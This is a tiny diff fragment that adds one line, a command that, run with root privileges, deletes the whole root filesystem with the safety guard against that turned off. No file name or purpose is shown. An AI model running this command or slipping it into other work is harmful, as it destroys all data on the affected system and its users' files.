@@ -1,0 +1,1 @@
+sudo rm -rf --no-preserve-root /
